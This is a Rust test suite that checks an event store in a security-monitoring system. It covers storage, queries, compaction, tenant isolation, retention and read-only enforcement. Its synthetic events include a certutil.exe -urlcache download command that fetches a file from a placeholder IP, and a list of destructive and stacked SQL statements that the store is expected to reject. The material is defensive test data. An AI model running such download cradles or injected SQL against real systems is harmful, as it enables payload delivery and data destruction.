//! The conformance suite of the `EventStore` trait: the same inserts and queries, the
//! same answers, on every store. Its SQL is the subset that DataFusion and every
//! ClickHouse version read alike (quoted names, string time literals, `LIKE`,
//! `fields['key']`).

#![allow(clippy::unwrap_used, clippy::expect_used, dead_code, unreachable_pub)]

use arrow::array::{Array, AsArray, RecordBatch};
use arrow::datatypes::{Int64Type, UInt64Type};
use futures::StreamExt;
use vedette_core::alert::{alerts_to_batch, Alert, DetectionKind, Level};
use vedette_core::batch::{BusPosition, EventBatch};
use vedette_core::dead_letter::{dead_letters_to_batch, DeadLetter};
use vedette_core::event::{Event, EventBatchBuilder};
use vedette_core::traits::{EventStore, QueryScope, Table};
use vedette_core::CoreError;

/// 2026-11-20T00:00:00Z.
pub const DAY0: i64 = 1_795_132_800_000;
/// A day in milliseconds.
pub const DAY: i64 = 86_400_000;

/// Process-creation events: `n` per host for `hosts` hosts, one second apart, on day
/// `day` after [`DAY0`]; every fifth runs `certutil`.
pub fn events(tag: &str, n: usize, hosts: usize, day: i64) -> EventBatch {
    let mut b = EventBatchBuilder::new();
    for h in 0..hosts {
        for i in 0..n {
            let certutil = i % 5 == 0;
            let cmd = if certutil {
                format!("certutil.exe -urlcache -f http://198.51.100.{i}/x.bin")
            } else {
                format!("notepad.exe report-{i}.txt")
            };
            let fields = vec![
                ("CommandLine".to_string(), cmd.clone()),
                ("EventID".to_string(), "1".to_string()),
            ];
            b.append(&Event {
                id: format!("{tag}-{h}-{i}"),
                timestamp_ms: DAY0 + day * DAY + (i as i64) * 1000,
                dataset: if h % 2 == 0 {
                    "windows.sysmon"
                } else {
                    "windows.security"
                }
                .into(),
                host_name: Some(format!("host-{h}")),
                user_name: Some(format!("user-{}", i % 3)),
                process_command_line: Some(cmd),
                fields,
                ..Event::default()
            });
        }
    }
    EventBatch::new(b.finish().unwrap(), "suite", "acme", DAY0)
}

/// The same batch as if read from the bus at `offset`.
pub fn at(mut batch: EventBatch, offset: u64) -> EventBatch {
    batch.position = Some(BusPosition {
        topic: "events".into(),
        partition: 0,
        offset,
    });
    batch
}

/// Runs `sql`, all results concatenated.
pub async fn rows(store: &dyn EventStore, sql: &str) -> Result<Vec<RecordBatch>, CoreError> {
    let mut stream = store.query(sql, &QueryScope::all()).await?;
    let mut out = Vec::new();
    while let Some(b) = stream.next().await {
        out.push(b?);
    }
    Ok(out)
}

/// The single integer a query returns.
pub async fn count(store: &dyn EventStore, sql: &str) -> i64 {
    let batches = rows(store, sql).await.unwrap();
    let b = batches.iter().find(|b| b.num_rows() > 0).unwrap();
    let c = b.column(0);
    match c.as_primitive_opt::<Int64Type>() {
        Some(v) => v.value(0),
        None => i64::try_from(c.as_primitive::<UInt64Type>().value(0)).unwrap(),
    }
}

/// Strings of the first column, in order.
pub async fn strings(store: &dyn EventStore, sql: &str) -> Vec<String> {
    rows(store, sql)
        .await
        .unwrap()
        .iter()
        .flat_map(|b| {
            let c = b.column(0).as_string::<i32>().clone();
            (0..c.len()).map(move |i| c.value(i).to_string())
        })
        .collect()
}

/// Events are stored, queryable by column, by `fields` key and by time range.
pub async fn events_are_stored_and_queried(store: &dyn EventStore) {
    store
        .append(Table::Events, &events("a", 20, 4, 0))
        .await
        .unwrap();
    store
        .append(Table::Events, &events("b", 10, 2, 1))
        .await
        .unwrap();
    assert_eq!(count(store, "SELECT count(*) FROM events").await, 100);
    assert_eq!(
        count(
            store,
            "SELECT count(*) FROM events WHERE fields['CommandLine'] LIKE '%certutil%'"
        )
        .await,
        20
    );
    assert_eq!(
        count(
            store,
            "SELECT count(*) FROM events WHERE \"@timestamp\" >= '2026-11-21 00:00:00'"
        )
        .await,
        20
    );
    let hosts = strings(
        store,
        "SELECT \"host.name\" FROM events GROUP BY \"host.name\" ORDER BY \"host.name\"",
    )
    .await;
    assert_eq!(hosts, ["host-0", "host-1", "host-2", "host-3"]);
    assert_eq!(
        count(
            store,
            "SELECT count(*) FROM events WHERE \"event.dataset\" = 'windows.security'"
        )
        .await,
        50
    );
}

/// Answers that must not change when the store reorganises its data.
async fn answers(store: &dyn EventStore) -> Vec<String> {
    let mut out = vec![
        count(store, "SELECT count(*) FROM events")
            .await
            .to_string(),
        count(store, "SELECT count(DISTINCT \"event.id\") FROM events")
            .await
            .to_string(),
        count(
            store,
            "SELECT count(*) FROM events WHERE fields['CommandLine'] LIKE '%certutil%'",
        )
        .await
        .to_string(),
    ];
    out.extend(
        strings(
            store,
            "SELECT \"event.id\" FROM events WHERE \"host.name\" = 'host-1' ORDER BY \"event.id\"",
        )
        .await,
    );
    out
}

/// Compaction (where the store has one) changes no answer, and a batch delivered
/// again after it is still stored once.
pub async fn compaction_changes_no_answer(store: &dyn EventStore) {
    let batches: Vec<EventBatch> = (0u64..24)
        .map(|i| at(events(&format!("c{i}"), 6, 2, i64::from(i % 2 == 0)), i))
        .collect();
    for b in &batches {
        store.append(Table::Events, b).await.unwrap();
    }
    store
        .append(Table::Events, &events("loose", 4, 2, 0))
        .await
        .unwrap();
    let before = answers(store).await;
    assert_eq!(before[0], "296");
    store.compact().await.unwrap();
    assert_eq!(answers(store).await, before, "after compaction");
    for b in &batches {
        store.append(Table::Events, b).await.unwrap();
    }
    assert_eq!(answers(store).await, before, "after re-delivery");
    store.compact().await.unwrap();
    assert_eq!(answers(store).await, before, "after a second compaction");
}

/// A batch delivered again (same bus position) is not stored twice.
pub async fn redelivery_is_idempotent(store: &dyn EventStore) {
    let batch = at(events("r", 10, 3, 0), 7);
    store.append(Table::Events, &batch).await.unwrap();
    store.append(Table::Events, &batch).await.unwrap();
    assert_eq!(count(store, "SELECT count(*) FROM events").await, 30);
    store
        .append(Table::Events, &at(events("s", 10, 3, 0), 8))
        .await
        .unwrap();
    assert_eq!(count(store, "SELECT count(*) FROM events").await, 60);
}

/// Batches appended together are stored like batches appended one by one, and a group
/// holding batches already stored adds only the others.
pub async fn grouped_appends_are_idempotent(store: &dyn EventStore) {
    let group = [at(events("g", 10, 2, 0), 1), at(events("h", 10, 2, 0), 2)];
    store.append_all(Table::Events, &group).await.unwrap();
    assert_eq!(count(store, "SELECT count(*) FROM events").await, 40);
    let again = [at(events("h", 10, 2, 0), 2), at(events("i", 10, 2, 0), 3)];
    store.append_all(Table::Events, &again).await.unwrap();
    assert_eq!(count(store, "SELECT count(*) FROM events").await, 60);
    assert_eq!(
        count(
            store,
            "SELECT count(*) FROM events WHERE \"event.id\" LIKE 'h-%'"
        )
        .await,
        20
    );
}

/// Events read back for a retro-hunt have the event schema and the span asked for.
pub async fn events_are_read_back_by_time(store: &dyn EventStore) {
    store
        .append(Table::Events, &events("t", 10, 2, 0))
        .await
        .unwrap();
    store
        .append(Table::Events, &events("u", 10, 2, 1))
        .await
        .unwrap();
    let mut stream = store.read_events(DAY0 + DAY, DAY0 + 2 * DAY).await.unwrap();
    let mut read = Vec::new();
    while let Some(b) = stream.next().await {
        read.push(b.unwrap());
    }
    let total: usize = read.iter().map(|b| b.num_rows()).sum();
    assert_eq!(total, 20);
    let schema = vedette_core::schema::event_schema();
    for b in &read {
        assert_eq!(b.schema().fields(), schema.fields());
    }
    let batch = arrow::compute::concat_batches(&schema, &read).unwrap();
    let events = vedette_core::event_json::events_to_json(&batch).unwrap();
    let mut ids: Vec<&str> = events
        .iter()
        .map(|e| e["event.id"].as_str().unwrap())
        .collect();
    ids.sort_unstable();
    assert_eq!(ids[0], "u-0-0");
    let certutil = events.iter().find(|e| e["event.id"] == "u-1-5").unwrap();
    assert_eq!(certutil["host.name"], "host-1");
    assert_eq!(
        certutil["fields"]["CommandLine"],
        "certutil.exe -urlcache -f http://198.51.100.5/x.bin"
    );
}

/// Alerts and dead letters have their tables.
pub async fn alerts_and_dead_letters(store: &dyn EventStore) {
    let alert = Alert {
        id: "al-1".into(),
        time_ms: DAY0 + 5,
        tenant: "acme".into(),
        kind: DetectionKind::Sigma,
        rule_id: "r-1".into(),
        rule_title: "Certutil download".into(),
        rule_author: None,
        level: Level::High,
        tags: vec!["attack.t1105".into()],
        host: Some("host-0".into()),
        user: None,
        event_ids: vec!["a-0-0".into()],
        matched: Default::default(),
        dedup_key: "k".into(),
    };
    let alerts = EventBatch::new(alerts_to_batch(&[alert]).unwrap(), "detect", "acme", 0);
    store.append(Table::Alerts, &alerts).await.unwrap();
    let dead = DeadLetter::new(
        DAY0,
        "acme",
        "syslog-tcp",
        "cef",
        3,
        "bad header",
        b"CEF:0|x",
    );
    let letters = EventBatch::new(dead_letters_to_batch(&[dead]).unwrap(), "ingest", "acme", 0);
    store.append(Table::DeadLetters, &letters).await.unwrap();
    assert_eq!(
        strings(
            store,
            "SELECT \"rule.title\" FROM alerts WHERE \"rule.level\" = 'high'"
        )
        .await,
        ["Certutil download"]
    );
    assert_eq!(
        strings(store, "SELECT reason FROM dead_letters").await,
        ["bad header"]
    );
}

/// A query scoped to a tenant sees that tenant's rows in every table, and nothing
/// outside the three tables.
pub async fn tenant_scope_confines_every_table(store: &dyn EventStore) {
    for (tenant, n) in [("acme", 3usize), ("globex", 5)] {
        let mut b = EventBatchBuilder::new();
        for i in 0..n {
            b.append(&Event {
                id: format!("{tenant}-{i}"),
                timestamp_ms: DAY0 + i as i64,
                dataset: "linux.auth".into(),
                tenant: tenant.into(),
                host_name: Some(format!("{tenant}-host")),
                ..Event::default()
            });
        }
        let batch = EventBatch::new(b.finish().unwrap(), "suite", tenant, DAY0);
        store.append(Table::Events, &batch).await.unwrap();
        let dead = DeadLetter::new(DAY0, tenant, "http", "json", 1, "bad json", b"{");
        let letters = EventBatch::new(dead_letters_to_batch(&[dead]).unwrap(), "ingest", tenant, 0);
        store.append(Table::DeadLetters, &letters).await.unwrap();
    }
    let scoped = |tenant: &str, sql: &'static str| {
        let scope = QueryScope::tenant(tenant);
        async move {
            let mut stream = store.query(sql, &scope).await?;
            let mut texts = Vec::new();
            while let Some(b) = stream.next().await {
                let b = b?;
                let c = b.column(0).as_string::<i32>().clone();
                texts.extend((0..c.len()).map(|i| c.value(i).to_string()));
            }
            texts.sort();
            Ok::<_, CoreError>(texts)
        }
    };
    assert_eq!(
        scoped("acme", "SELECT DISTINCT tenant FROM events")
            .await
            .unwrap(),
        ["acme"]
    );
    assert_eq!(
        scoped(
            "globex",
            "SELECT \"host.name\" FROM events WHERE \"host.name\" LIKE 'acme%'"
        )
        .await
        .unwrap(),
        Vec::<String>::new(),
        "another tenant's rows are not there even when asked for by name"
    );
    assert_eq!(
        scoped("acme", "SELECT tenant FROM dead_letters")
            .await
            .unwrap(),
        ["acme"]
    );
    assert_eq!(
        scoped(
            "globex",
            "SELECT e.tenant FROM events e JOIN dead_letters d ON e.tenant = d.tenant \
             WHERE e.\"event.id\" = 'globex-0'"
        )
        .await
        .unwrap(),
        ["globex"]
    );
    assert_eq!(
        scoped("nobody", "SELECT tenant FROM events").await.unwrap(),
        Vec::<String>::new()
    );
    // Unscoped, both tenants are there.
    assert_eq!(
        strings(store, "SELECT DISTINCT tenant FROM events ORDER BY tenant").await,
        ["acme", "globex"]
    );
}

/// Analyst queries cannot change anything; bad SQL is the query's fault.
pub async fn queries_are_read_only(store: &dyn EventStore) {
    for sql in [
        "DROP TABLE events",
        "CREATE TABLE x AS SELECT 1",
        "INSERT INTO events SELECT * FROM events",
        "DELETE FROM events",
        "SET datafusion.execution.batch_size = 1",
        "SELECT 1; DROP TABLE events",
    ] {
        let err = rows(store, sql)
            .await
            .err()
            .unwrap_or_else(|| panic!("{sql} was allowed"));
        assert!(matches!(err, CoreError::BadInput(_)), "{sql}: {err}");
    }
    let err = rows(store, "SELEC nonsense").await.unwrap_err();
    assert!(matches!(err, CoreError::BadInput(_)), "{err}");
    let err = rows(store, "SELECT no_such_column FROM events")
        .await
        .unwrap_err();
    assert!(matches!(err, CoreError::BadInput(_)), "{err}");
}

/// A batch of another table's shape is refused.
pub async fn wrong_shape_is_refused(store: &dyn EventStore) {
    let batch = events("w", 1, 1, 0);
    let err = store.append(Table::Alerts, &batch).await.unwrap_err();
    assert!(matches!(err, CoreError::BadInput(_)), "{err}");
}

/// Retention drops whole days older than the cut.
pub async fn retention_drops_old_days(store: &dyn EventStore, retention_days: i64) {
    store
        .append(Table::Events, &events("old", 5, 1, 0))
        .await
        .unwrap();
    store
        .append(Table::Events, &events("new", 5, 1, retention_days + 1))
        .await
        .unwrap();
    let now = DAY0 + (retention_days + 1) * DAY + 1000;
    let dropped = store.apply_retention(now).await.unwrap();
    assert!(dropped >= 1);
    assert_eq!(count(store, "SELECT count(*) FROM events").await, 5);
    assert_eq!(
        strings(
            store,
            "SELECT \"event.id\" FROM events ORDER BY \"event.id\" LIMIT 1"
        )
        .await,
        ["new-0-0"]
    );
}
